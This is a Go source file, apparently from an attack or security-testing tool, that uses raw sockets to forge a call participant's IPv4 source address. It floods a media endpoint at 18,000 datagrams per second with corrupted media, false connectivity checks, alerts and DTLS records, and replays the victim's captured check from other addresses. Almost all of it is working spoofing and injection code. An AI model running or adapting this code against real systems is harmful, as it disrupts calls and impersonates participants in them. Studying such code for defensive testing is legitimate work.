package attack

import (
	"context"
	"encoding/binary"
	"fmt"
	"net"
	"net/netip"

	"golang.org/x/sys/unix"
)

// spoofed sends what looks as if it came from somebody in the call: media that do not open, false checks, alerts, records
// of DTLS, 18,000 a second. Beside it, it sends that one's own check from other addresses, as whoever overheard it can.
func spoofed(ctx context.Context, t Target) (string, error) {
	forger, err := newForger(t.Victim, t.Media)
	if err != nil {
		return "the system lets nobody forge addresses", nil
	}
	defer forger.close()
	elsewhere, err := net.DialUDP("udp4", nil, net.UDPAddrFromAddrPort(t.Media))
	if err != nil {
		return "", err
	}
	defer elsewhere.Close()
	garbage := Garbage()
	media := garbage[5]
	sent := t.pace(ctx, 18000, func(n int) error {
		switch {
		case n%20 == 0 && len(t.Check) > 0:
			_, err := elsewhere.Write(t.Check)
			return err
		case n%4 == 0:
			return forger.send(garbage[n/4%len(garbage)])
		default:
			binary.BigEndian.PutUint16(media[2:], uint16(n))
			return forger.send(media)
		}
	})
	return fmt.Sprintf("%d datagrams", sent), nil
}

// forger sends UDP from an address that is not its own.
type forger struct {
	fd     int
	header [28]byte // IPv4 (RFC 791) and UDP (RFC 768)
	to     unix.SockaddrInet4
}

// newForger needs to be allowed raw sockets.
func newForger(from, to netip.AddrPort) (*forger, error) {
	fd, err := unix.Socket(unix.AF_INET, unix.SOCK_RAW|unix.SOCK_CLOEXEC, unix.IPPROTO_RAW)
	if err != nil {
		return nil, err
	}
	f := &forger{fd: fd, to: unix.SockaddrInet4{Addr: to.Addr().As4()}}
	source, target := from.Addr().As4(), to.Addr().As4()
	h := f.header[:]
	h[0], h[8], h[9] = 0x45, 64, unix.IPPROTO_UDP // the kernel fills in length and checksum
	copy(h[12:], source[:])
	copy(h[16:], target[:])
	binary.BigEndian.PutUint16(h[20:], from.Port())
	binary.BigEndian.PutUint16(h[22:], to.Port())
	return f, nil
}

// send sends one datagram, without a checksum of UDP. What is too large for the network is left out.
func (f *forger) send(b []byte) error {
	if len(b) > 1400 {
		return nil
	}
	binary.BigEndian.PutUint16(f.header[24:], uint16(8+len(b)))
	return unix.Sendto(f.fd, append(f.header[:len(f.header):len(f.header)], b...), 0, &f.to)
}

func (f *forger) close() { _ = unix.Close(f.fd) }
